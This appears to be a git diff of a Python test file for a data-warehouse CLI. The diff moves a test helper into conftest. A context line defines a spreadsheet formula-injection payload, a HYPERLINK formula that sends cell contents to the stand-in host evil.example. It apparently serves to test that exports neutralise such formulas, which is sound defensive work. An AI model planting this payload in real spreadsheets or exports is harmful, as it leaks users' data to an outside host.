@@ -8,19 +8,10 @@ import json
 from pathlib import Path
 
 import polars as pl
-from typer.testing import CliRunner
 
-from warehouse.cli import app
+from conftest import EXPORTS, cchc
 
-from conftest import EXPORTS
-
-runner = CliRunner()
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1;"Xem")'
-
-
-def cchc(*args: str) -> tuple[int, str]:
-    result = runner.invoke(app, list(args), env={"COLUMNS": "200"})
-    return result.exit_code, result.output
 
 
 def hostile_export(tmp_path: Path) -> Path:
